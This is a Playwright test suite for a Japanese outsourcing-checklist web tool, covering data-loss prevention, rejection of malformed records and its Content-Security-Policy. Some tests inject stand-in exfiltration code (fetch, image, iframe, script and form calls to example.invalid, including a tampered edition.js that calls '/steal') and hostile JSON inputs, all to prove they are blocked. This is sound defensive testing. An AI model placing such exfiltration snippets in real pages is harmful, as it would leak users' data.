"""Issue 31 in the browser, over http and from file://: nothing typed is lost, no record is mixed up,
no bad file breaks a page. Each test names the items of the issue it holds to; each failed before
the fix (probe table in the issue note)."""
from __future__ import annotations

import functools
import http.server
import io
import hashlib
import json
import os
import pathlib
import shutil
import threading
from typing import Any, Iterator

import openpyxl
import pytest
from playwright.sync_api import Browser, Page, expect

from itaku import model, schema
from itaku.edition import js_text
from itaku.outputs import build_outputs, job_for, job_record

READY_MS = 120_000
CORPUS = model.load()
RLO = "\u202e"


def example(example_id: str = "call-centre") -> dict[str, Any]:
    return dict(next(e for e in CORPUS.data["examples"] if e["id"] == example_id)["answers"])


def record(example_id: str = "call-centre", **changes: Any) -> dict[str, Any]:
    return job_record(job_for(CORPUS, {**example(example_id), **changes}))


def rehash(rec: dict[str, Any]) -> dict[str, Any]:
    rec["answers_hash"] = schema.computed_hash(rec)
    return rec


def data(obj: Any) -> bytes:
    return json.dumps(obj, ensure_ascii=False).encode("utf-8")


def malformed(base: dict[str, Any]) -> dict[str, bytes]:
    """Ten job records that pass a first read but are wrong in different ways (as in tests/)."""
    def variant(mutate) -> bytes:  # noqa: ANN001
        rec = json.loads(json.dumps(base))
        mutate(rec)
        return data(rehash(rec))

    first = base["applicable_items"]["after"][0]
    check = {"phase": "after", "date": "2026-10-01", "method": "書面", "checker": "x"}
    return {
        "checks-answers-list.json": variant(lambda r: r.__setitem__("checks", [{**check, "answers": []}])),
        "contract-type-list.json": variant(lambda r: r["answers"].__setitem__("contract_type", ["itaku"])),
        "applicable-items-list.json": variant(lambda r: r.__setitem__("applicable_items", ["a", "b"])),
        "answer-rows-strings.json": variant(lambda r: r.__setitem__("checks", [{**check, "answers": {first: "適合"}}])),
        "impossible-date.json": variant(lambda r: r["answers"].__setitem__("contract_end", "2027-02-30")),
        "deep.json": b'{"format":"itaku-job","a":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        "infinity.json": data(base).replace(b'"schema_version": ', b'"x": Infinity, "schema_version": ', 1),
        "altered.json": data({**base, "answers": {**base["answers"], "work_name": "書き換えた業務名"}}),
        "cut-short.json": data(base)[:500],
        "answers-file.json": data({"format": "itaku-answers", "schema_version": 3, "answers": {}}),
    }


def as_files(pairs: list[tuple[str, bytes]]) -> list[dict[str, Any]]:
    return [{"name": n, "mimeType": "application/json", "buffer": b} for n, b in pairs]


# ---------------------------------------------------------------- the register (items 1, 4, 7, 8)

def open_register(page: Page, site_url: str) -> None:
    page.goto(f"{site_url}register/index.html")
    expect(page.locator("#register")).to_have_attribute("data-state", "idle")


def load_register(page: Page, files: list[tuple[str, bytes]]) -> None:
    page.set_input_files('input[type=file][data-input="jobs"]', files=as_files(files))
    page.wait_for_function("document.getElementById('register').dataset.state === 'ready' && "
                           "document.getElementById('itaku-message').textContent.includes('件を台帳に入れました')",
                           timeout=READY_MS)


def test_register_refuses_bad_records_by_name_and_stays_usable(page: Page, site_url: str) -> None:
    good = record()
    newer = record("printing", department=f"総務課{RLO}")
    newer["stamp"]["corpus_version"] = "9.0.0"
    bad = malformed(good)
    open_register(page, site_url)
    load_register(page, [("good.json", data(good)), *bad.items()])
    refused = page.locator('#itaku-outcomes [data-outcome="refused"]')
    expect(refused).to_have_count(len(bad))
    for name in bad:
        expect(page.locator("#itaku-outcomes")).to_contain_text(name + "：")
    expect(page.locator("#itaku-outcomes")).to_contain_text("書き換えられています")
    expect(page.locator("#itaku-outcomes")).to_contain_text("正しい日付ではありません")
    expect(page.locator("#itaku-rows tr[data-job]")).to_have_count(1)
    assert "内部エラー" not in page.inner_text("#register")
    # A later file is read (the bad ones never entered the Python session); a newer kit is not 古い版.
    load_register(page, [("newer.json", data(rehash(newer)))])
    expect(page.locator("#itaku-rows tr[data-job]")).to_have_count(2)
    row = page.locator(f'#itaku-rows tr[data-job="{newer["answers_hash"]}"]')
    expect(row.locator('[data-field="corpus"]')).to_contain_text("新しい版 9.0.0")
    assert RLO not in row.inner_text()


def test_register_five_hundred_records_ten_malformed(page: Page, site_url: str) -> None:
    base = record()
    files = []
    for n in range(490):
        rec = json.loads(json.dumps(base))
        rec["answers"]["work_name"] = rec["work_name"] = f"業務{n:03d}"
        rec["job_id"] = hashlib.sha256(f"job{n}".encode()).hexdigest()  # 490 jobs, not 490 copies of one
        files.append((f"jobs/job{n:03d}.json", data(rehash(rec))))
    bad = malformed(base)
    open_register(page, site_url)
    load_register(page, files + [(f"jobs/{name}", blob) for name, blob in bad.items()])
    expect(page.locator("#itaku-message")).to_contain_text("500 件のファイルのうち 490 件を台帳に入れました")
    expect(page.locator('#itaku-outcomes [data-outcome="refused"]')).to_have_count(10)
    for name in bad:
        expect(page.locator("#itaku-outcomes")).to_contain_text(f"{name}：")
    expect(page.locator("#itaku-rows tr[data-job]")).to_have_count(490)
    expect(page.locator('[data-count="jobs"]')).to_have_text("490")


# ---------------------------------------------------------------- checklist pages (items 2, 3, 6)

def open_checklist(page: Page, site_url: str, phase: str = "after") -> None:
    page.goto(f"{site_url}checklists/{phase}/index.html")
    expect(page.locator("#checklist")).to_have_attribute("data-state", "idle")


def upload(page: Page, selector: str, name: str, blob: bytes) -> None:
    page.set_input_files(selector, files=[{"name": name, "mimeType": "application/octet-stream", "buffer": blob}])


def status_of(page: Page, item_id: str) -> tuple[str, str]:
    node = page.locator(f'[data-item="{item_id}"]')
    return node.locator('select[name="status"]').input_value(), node.locator('textarea[name="evidence"]').input_value()


def type_answer(page: Page, item_id: str, status: str, evidence: str) -> None:
    node = page.locator(f'[data-item="{item_id}"]')
    node.locator('select[name="status"]').select_option(status)
    node.locator('textarea[name="evidence"]').fill(evidence)


def workbook(rec_files: dict[str, bytes], cells: dict[str, dict[int, str]]) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(rec_files["checklist-after.xlsx"]))
    ws = wb.worksheets[0]
    for row in ws.iter_rows():
        for column, value in cells.get(row[0].value, {}).items():
            row[column].value = value
            row[column].data_type = "s"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_checklist_one_record_one_job_and_nothing_typed_replaced_without_asking(page: Page, site_url: str) -> None:
    files_a = build_outputs(job_for(CORPUS, example("call-centre")))
    files_b = build_outputs(job_for(CORPUS, example("printing")))
    ids_a = json.loads(files_a["job.json"])["applicable_items"]["after"]
    ids_b = json.loads(files_b["job.json"])["applicable_items"]["after"]
    shared = next(i for i in ids_a if i in ids_b)
    open_checklist(page, site_url)
    upload(page, "#itaku-job-file", "a.json", files_a["job.json"])
    expect(page.locator("#itaku-message")).to_contain_text("読み込みました", timeout=READY_MS)
    type_answer(page, shared, "適合", "A の根拠")

    # Item 2: loading job B asks; やめる keeps A; 置き換える gives B a clean sheet; A can be brought back.
    upload(page, "#itaku-job-file", "b.json", files_b["job.json"])
    confirm = page.locator("#itaku-reset-confirm")
    expect(confirm).to_be_visible()
    expect(confirm).to_contain_text("置き換えます")
    page.click("#itaku-reset-cancel")
    assert status_of(page, shared) == ("適合", "A の根拠")
    upload(page, "#itaku-job-file", "b.json", files_b["job.json"])
    page.click("#itaku-reset-ok")
    expect(page.locator('#itaku-job-info [data-fact="work-name"]')).to_have_text(example("printing")["work_name"])
    assert status_of(page, shared) == ("", "")
    page.fill("#itaku-date", "2026-10-01")
    page.fill("#itaku-checker", "監督 花子")
    page.click("#itaku-save")
    expect(page.locator("#itaku-save-result")).to_contain_text("作成しました")
    with page.expect_download() as info:
        page.click('#itaku-downloads [data-output="record.json"]')
    saved = json.loads(pathlib.Path(info.value.path()).read_bytes())
    assert "A の根拠" not in json.dumps(saved, ensure_ascii=False)
    # …and A's typed answers are still there to undo to.
    page.click("#itaku-undo")
    expect(page.locator("#itaku-message")).to_contain_text("元に戻しました")
    assert status_of(page, shared) == ("適合", "A の根拠")

    # Item 3: a contractor's workbook over typed answers asks first; a blank one never silently erases.
    expect(page.locator('#itaku-job-info [data-fact="work-name"]')).to_have_text(example()["work_name"])  # A again
    type_answer(page, ids_a[1], "不適合", "職員が入力")
    upload(page, "#itaku-import-file", "blank.xlsx", files_a["checklist-after.xlsx"])
    expect(page.locator("#itaku-reset-confirm")).to_be_visible()
    page.click("#itaku-reset-cancel")
    expect(page.locator("#itaku-import-result")).to_contain_text("やめました")
    assert status_of(page, ids_a[1]) == ("不適合", "職員が入力")
    upload(page, "#itaku-import-file", "blank.xlsx", files_a["checklist-after.xlsx"])
    page.click("#itaku-reset-ok")
    expect(page.locator("#itaku-import-result")).to_contain_text("読み込みました")
    assert status_of(page, ids_a[1]) == ("", "")
    page.click("#itaku-undo")
    assert status_of(page, ids_a[1]) == ("不適合", "職員が入力")

    # Item 6: an impossible 改善期限 is refused at import, naming it; over-long 確認者 is refused, not cut.
    upload(page, "#itaku-import-file", "bad-date.xlsx",
           workbook(files_a, {ids_a[0]: {7: "不適合", 9: "改善する", 10: "2027-02-30"}}))
    expect(page.locator("#itaku-import-result [role=alert]")).to_contain_text("2027-02-30 は実在しない日付です")
    assert status_of(page, ids_a[1]) == ("不適合", "職員が入力")
    page.locator(f'[data-item="{ids_a[1]}"] textarea[name="note"]').fill("計画")
    page.fill("#itaku-date", "2026-10-01")
    page.fill("#itaku-checker", "監" * 201)
    page.click("#itaku-save")
    expect(page.locator("#itaku-save-result [role=alert]")).to_contain_text("200文字を超えています")


# ---------------------------------------------------------------- the generator page (items 3, 8)



def settle(page: Page) -> None:
    page.wait_for_function("!('pending' in document.getElementById('generator').dataset)", timeout=30_000)


def answers_file(answers: dict[str, Any], **extra: Any) -> bytes:
    return data({"format": "itaku-answers", "schema_version": CORPUS.schema_version,
                 "corpus_version": CORPUS.version, "answers": answers, "removed_clauses": {}, **extra})


def test_generator_asks_before_replacing_and_refuses_what_the_cli_refuses(generator_page: Page, site_url: str) -> None:
    page = generator_page  # shared, on a fresh form (conftest)
    page.fill("#q-work_name", "手で入力した業務")
    settle(page)
    page.select_option("#itaku-example", "printing")
    page.click("#itaku-example-load")
    expect(page.locator("#itaku-reset-confirm")).to_be_visible()
    expect(page.locator("#itaku-reset-question")).to_contain_text("置き換えます")
    page.click("#itaku-reset-cancel")
    expect(page.locator("#itaku-load-message")).to_contain_text("やめました")
    assert page.input_value("#q-work_name") == "手で入力した業務"
    page.click("#itaku-example-load")
    page.click("#itaku-reset-ok")
    expect(page.locator("#itaku-load-message")).to_contain_text("読み込みました")
    settle(page)
    assert page.input_value("#q-work_name") == example("printing")["work_name"]
    expect(page.locator("#itaku-undo")).to_be_visible()
    page.click("#itaku-undo")
    settle(page)
    assert page.input_value("#q-work_name") == "手で入力した業務"

    # Item 8: values the form cannot show are refused with the CLI's message; hostile JSON in Japanese.
    for key, value, words in [("specific_personal_info", "maybe", "「はい」か「いいえ」"),
                              ("contract_type", "unknown", "選択肢から選んでください"),
                              ("data_items", {"item": "氏名"}, "表の形"),
                              ("contract_start", 20260401, "日付を")]:
        upload(page, "#itaku-answers-file", "answers.json", answers_file({**example(), key: value}))
        expect(page.locator("#itaku-load-message [role=alert]")).to_contain_text(words)
        expect(page.locator("#itaku-load-message")).to_contain_text("回答に問題があります")
        assert page.input_value("#q-work_name") == "手で入力した業務"
    for name, blob, words in [("inf.json", answers_file(example()).replace(b'"answers":', b'"x": NaN, "answers":'),
                               "JSON で使えない値"),
                              ("deep.json", b"[" * 100_000 + b"]" * 100_000, "入れ子が深すぎます")]:
        upload(page, "#itaku-answers-file", name, blob)
        expect(page.locator("#itaku-load-message [role=alert]")).to_contain_text(words)
        assert "内部エラー" not in page.inner_text("#itaku-load-message")
    upload(page, "#itaku-answers-file", "newer.json", answers_file(example(), corpus_version="9.0.0"))
    expect(page.locator("#itaku-reset-confirm")).to_be_visible()
    page.click("#itaku-reset-ok")
    expect(page.locator("#itaku-load-message")).to_contain_text("新しい版（コーパス 9.0.0）")


# ---------------------------------------------------------------- two tabs and failed saves (item 4)

FAIL_STORAGE = """Storage.prototype.setItem = function () {
  throw new DOMException('The quota has been exceeded.', 'QuotaExceededError');
};"""


def test_two_tabs_notice_each_other_and_a_failed_save_is_said(page: Page, site_url: str) -> None:
    items = [i["id"] for i in CORPUS.items]
    open_checklist(page, site_url, "before")
    other = page.context.new_page()
    other.goto(f"{site_url}checklists/before/index.html")
    expect(other.locator("#checklist")).to_have_attribute("data-state", "idle")
    page.bring_to_front()
    type_answer(page, items[0], "適合", "タブ1")
    page.wait_for_function("localStorage.getItem('itaku-checklist-before') !== null", timeout=10_000)
    warning = other.locator("#itaku-autosave-warning[data-reason=other-tab]")
    expect(warning).to_be_visible(timeout=10_000)
    expect(warning).to_contain_text("別のタブ")
    other.bring_to_front()
    type_answer(other, items[1], "該当なし", "タブ2")
    other.wait_for_timeout(1000)
    stored = page.evaluate("JSON.parse(localStorage.getItem('itaku-checklist-before'))")
    assert stored["companies"][""]["answers"][items[0]]["evidence_seen"] == "タブ1"
    assert items[1] not in stored["companies"][""]["answers"]  # tab 2 did not overwrite tab 1's work
    other.click("#itaku-autosave-warning [data-autosave=overwrite]")
    expect(warning).to_be_hidden()
    stored = page.evaluate("JSON.parse(localStorage.getItem('itaku-checklist-before'))")
    assert stored["companies"][""]["answers"][items[1]]["evidence_seen"] == "タブ2"
    expect(page.locator("#itaku-autosave-warning[data-reason=other-tab]")).to_be_visible()
    other.close()

    # Storage refused: said at once, with what to download; the register keeps its earlier list.
    page.evaluate("localStorage.setItem('itaku-register', JSON.stringify({version: 1, as_of: '2026-10-01', "
                  "files: [['x', 'earlier.json', '{}']]}))")
    failing = page.context.new_page()
    failing.add_init_script(FAIL_STORAGE)
    failing.goto(f"{site_url}checklists/before/index.html")
    failing.bring_to_front()
    type_answer(failing, items[2], "適合", "保存できない")
    expect(failing.locator("#itaku-autosave-warning")).to_have_attribute("data-reason", "failed", timeout=10_000)
    alert = failing.locator("#itaku-autosave-warning[data-reason=failed] [role=alert]")
    expect(alert).to_contain_text("保存できませんでした")
    expect(alert).to_contain_text("ダウンロード")
    open_register(failing, site_url)
    load_register(failing, [("good.json", data(record()))])
    expect(failing.locator("#itaku-autosave-warning[data-reason=failed]")).to_contain_text("前に保存した一覧はそのままです")
    assert "earlier.json" in failing.evaluate("localStorage.getItem('itaku-register')")
    failing.close()


# ---------------------------------------------------------------- edition and Content-Security-Policy (item 5)

@pytest.fixture(scope="module")
def copy_dir(site_dir: pathlib.Path, tmp_path_factory: pytest.TempPathFactory) -> pathlib.Path:
    target = tmp_path_factory.mktemp("hostile") / "itaku-site"
    shutil.copytree(site_dir, target, copy_function=os.link)
    (target / "edition.js").unlink()  # never write through a hard link into site/
    return target


@pytest.fixture(scope="module")
def copy_http(copy_dir: pathlib.Path) -> Iterator[str]:
    class Quiet(http.server.SimpleHTTPRequestHandler):
        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(copy_dir)))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/"
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(params=["http", "file"], ids=["http", "file"])
def copy_url(request: pytest.FixtureRequest, copy_dir: pathlib.Path) -> str:
    return request.getfixturevalue("copy_http") if request.param == "http" else copy_dir.as_uri() + "/"


@pytest.fixture
def quiet_page(browser: Browser) -> Iterator[tuple[Page, list[str], list[str]]]:
    """A page whose console errors the test inspects itself (a missing edition.js and refused requests are
    console errors by design); requests outside the site are still aborted and counted."""
    context = browser.new_context(locale="ja-JP")
    errors: list[str] = []
    outside: list[str] = []

    def abort(route) -> None:  # noqa: ANN001
        outside.append(route.request.url)
        route.abort("blockedbyclient")

    context.route(lambda url: url.startswith(("http:", "https:")) and not url.startswith("http://127.0.0.1"), abort)
    page = context.new_page()
    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
    try:
        yield page, errors, outside
    finally:
        context.close()


PROBE = """async () => {
  const seen = [];
  document.addEventListener('securitypolicyviolation', (e) => seen.push(e.effectiveDirective));
  try { await fetch('https://example.invalid/leak?d=1'); } catch (e) {}
  const img = new Image(); img.src = 'https://example.invalid/leak.png?d=1'; document.body.append(img);
  const frame = document.createElement('iframe'); frame.src = 'https://example.invalid/'; document.body.append(frame);
  const script = document.createElement('script'); script.src = 'https://example.invalid/x.js'; document.body.append(script);
  const form = document.createElement('form'); form.action = 'https://example.invalid/post'; form.method = 'post';
  document.body.append(form); try { form.requestSubmit(); } catch (e) {}
  for (let n = 0; n < 30 && new Set(seen).size < 5; n += 1) await new Promise((r) => setTimeout(r, 100));
  return [...new Set(seen)].sort();
}"""


def test_edition_absence_is_said_and_the_policy_keeps_data_in(quiet_page, copy_url: str,
                                                               copy_dir: pathlib.Path) -> None:
    page, errors, outside = quiet_page
    builtin = CORPUS.edition["org_name"]
    # Missing edition.js: every page says the built-in edition is in use (here: pages without Python).
    for path in ("index.html", "manual/index.html", "checklists/before/index.html"):
        page.goto(copy_url + path)
        message = page.locator("#itaku-edition-message")
        expect(message).to_contain_text("edition.js")
        expect(message).to_contain_text(f"組み込みの版（{builtin}）")
    # An invalid one is never shown as in force, even without Python.
    (copy_dir / "edition.js").write_text(js_text({**CORPUS.edition["raw"], "org_type": "metropolis",
                                                  "org_name": "偽の市"}), encoding="utf-8")
    try:
        page.goto(copy_url + "index.html")
        expect(page.locator("#itaku-edition-message")).to_contain_text("org_type（団体の種類）")
        expect(page.locator("#itaku-edition .itaku-edition-name")).to_have_text(builtin)
        # A file made by the settings page (with its own clause and item) is in force, without Python too.
        made = {"org_name": "△△県", "org_type": "prefecture", "ordinance": "△△県個人情報保護法施行条例",
                "rules": "△△県安全管理規程", "privacy_section": "総務部県政情報課", "contact": "内線 1234",
                "head_title": "", "party_style": "",
                "clauses": [{"id": "local-1", "title": "バックアップの保管", "inclusion": "required",
                             "text": "{{contractor}}は、バックアップを保管しなければならない。"}],
                "items": [{"id": "local-1-01", "clause": "local-1", "before": "定めていますか。",
                           "after": "保管しましたか。", "evidence": ["保管記録"], "answered_by": "受託者"}]}
        (copy_dir / "edition.js").unlink()
        (copy_dir / "edition.js").write_text(js_text(made), encoding="utf-8")
        page.goto(copy_url + "index.html")
        expect(page.locator("#itaku-edition .itaku-edition-name")).to_have_text("△△県")
        expect(page.locator("#itaku-edition-message")).to_have_count(0)
        (copy_dir / "edition.js").unlink()
        # A tampered edition.js runs as code, but every request outside the site is refused by the policy.
        (copy_dir / "edition.js").write_text(
            "fetch('https://example.invalid/steal').catch(() => {});\n" + js_text(CORPUS.edition["raw"]),
            encoding="utf-8")
        for path in ("index.html", "generator/index.html", "register/index.html"):
            page.goto(copy_url + path)
            expect(page.locator("#itaku-edition-message")).to_have_count(0)  # otherwise a valid edition
            assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1
            blocked = page.evaluate(PROBE)
            assert {"connect-src", "img-src", "frame-src", "script-src-elem", "form-action"} <= set(blocked), blocked
    finally:
        (copy_dir / "edition.js").unlink()
    assert not outside, outside  # the policy refused them before any request was made
    refused = [e for e in errors if "Content Security Policy" in e]
    assert refused and all("example.invalid" in e for e in refused), refused  # the site's own files all load


def test_pyodide_pages_work_under_the_policy(quiet_page, site_url: str) -> None:
    """No bypass here: the generator, a checklist page and the register start Python and make files
    with the policy in force, in both modes, and no console error (a refusal would be one) appears."""
    page, errors, outside = quiet_page
    page.goto(site_url + "generator/index.html")
    expect(page.locator("#generator")).to_have_attribute("data-state", "ready", timeout=READY_MS)
    expect(page.locator("#generator")).to_have_attribute("data-libraries", "ready", timeout=READY_MS)
    page.select_option("#itaku-example", "call-centre")
    page.click("#itaku-example-load")
    button = page.locator('#itaku-download-list [data-output="answers.json"]')
    expect(button).not_to_have_attribute("aria-disabled", "true", timeout=30_000)
    with page.expect_download(timeout=60_000) as info:
        button.click()
    assert json.loads(pathlib.Path(info.value.path()).read_bytes())["format"] == "itaku-answers"
    files = build_outputs(job_for(CORPUS, example()), "job.json")
    page.goto(site_url + "checklists/after/index.html")
    upload(page, "#itaku-job-file", "job.json", files["job.json"])
    expect(page.locator("#checklist")).to_have_attribute("data-state", "ready", timeout=READY_MS)
    expect(page.locator("#itaku-message")).to_contain_text("読み込みました")
    page.goto(site_url + "register/index.html")
    page.set_input_files('input[type=file][data-input="jobs"]', files=as_files([("job.json", files["job.json"])]))
    expect(page.locator("#register")).to_have_attribute("data-state", "ready", timeout=READY_MS)
    expect(page.locator("#itaku-rows tr[data-job]")).to_have_count(1)
    page.goto(site_url + "settings/index.html")
    expect(page.locator("#settings")).to_have_attribute("data-state", "ready", timeout=READY_MS)
    # Material's search (its worker; on file:// the iframe-worker shim) works under the policy.
    page.goto(site_url + "index.html")
    box = page.locator("input.md-search__input")
    box.click()
    expect(page.locator(".md-search-result__meta")).to_have_text("検索キーワードを入力してください", timeout=60_000)
    box.press_sequentially("再委託")
    box.press("End")
    expect(page.locator("ol.md-search-result__list > li.md-search-result__item").first).to_be_visible(timeout=30_000)
    assert not errors, errors
    assert not outside, outside
